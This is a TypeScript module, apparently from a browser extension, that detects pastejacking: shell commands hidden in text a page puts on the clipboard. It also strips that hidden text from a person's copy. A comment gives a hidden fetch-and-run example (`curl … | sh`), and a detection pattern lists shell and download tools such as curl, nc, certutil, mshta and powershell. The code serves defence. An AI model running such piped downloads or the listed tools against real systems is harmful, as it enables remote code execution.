import { literally } from '../text/literally';
import { flatten, MAYBE_COMMAND } from './command-words';
import { commandShell } from './commands';

/**
 * Pastejacking: text a page hides inside what a person selects (off the page, no size, no colour,
 * clipped away) goes onto the clipboard with what they meant to copy — `sudo apt-get update`
 * shown, `; curl -s https://…/x | sh;` hidden in the middle. Which hidden text is dropped from a
 * person's copy is said here; which text is hidden is read from the page (guard-relay/
 * hidden-text.ts). Hidden text that is no command (a screen reader's "Copy", a heading's anchor)
 * is copied as the browser copies it: an honest page's selection is never changed.
 */

/**
 * Where a shell ends one command and starts another on the same line, or runs one inside
 * another. (A line break is no sign: hidden menus and labels are full of them.)
 */
const SEPARATOR = /[;&|`]|\$\(/;
/**
 * Programs a slipped-in command runs that commands.ts leaves to the rest of its line, none of
 * them an everyday word (not `open`, `cat` or `history`, which hidden labels hold).
 */
const PROGRAMS =
  'sudo|sh|bash|zsh|rm|dd|mkfs|chmod|chown|curl|wget|nc|ncat|netcat|ssh|scp|eval|exec|python\\d?|perl|osascript|base64|openssl|whoami|crontab|powershell|pwsh|iex|cmd|mshta|rundll32|regsvr32|certutil|bitsadmin|xattr';
const SHELL_WORD = new RegExp(`(?:^|[\\s;&|(])(?:${PROGRAMS})(?=$|[\\s;&|)])`, 'i');
/**
 * A new line that starts with such a program, written as a shell's (lower case, an option, a path
 * or an address after it): a terminal runs it as it is pasted. A hidden menu's "SSH keys" is not.
 */
const OWN_LINE = new RegExp(`[\\n\\r]\\s*(?:sudo\\s+\\S|(?:${PROGRAMS})\\s+[-/~$"'.:@])`);

/** Whether a selection's text is worth reading for hidden parts at all (a quick look). */
export const mayHoldCommand = (text: string) =>
  SEPARATOR.test(text) || MAYBE_COMMAND.test(flatten(text));

/**
 * Whether the hidden parts of a selection slip a command into it: they are one themselves, they
 * add a command to a line by a shell's separator or put one on a line of its own, or what is
 * copied is a command only because of them.
 */
export function slipsInCommand(hidden: readonly string[], copied: string, seen: string): boolean {
  const joined = hidden.join(' ');
  if (!joined.trim()) return false;
  if (commandShell(joined)) return true;
  const flat = flatten(joined);
  if ((SEPARATOR.test(flat) && SHELL_WORD.test(flat)) || OWN_LINE.test(flat)) return true;
  return commandShell(copied) !== null && commandShell(seen) === null;
}

/**
 * The selection's text with the hidden parts taken out, each where it stands (found in order,
 * whatever spaces the browser put between its words). A part the browser itself leaves out of
 * the text is not there to take.
 */
export function withoutHidden(text: string, hidden: readonly string[]): string {
  let kept = '';
  let rest = text;
  for (const part of hidden) {
    const words = part.split(/\s+/).filter(Boolean);
    if (words.length === 0) continue;
    const found = new RegExp(words.map(literally).join('\\s*')).exec(rest);
    if (!found) continue;
    kept += rest.slice(0, found.index);
    rest = rest.slice(found.index + found[0].length);
  }
  return kept + rest;
}
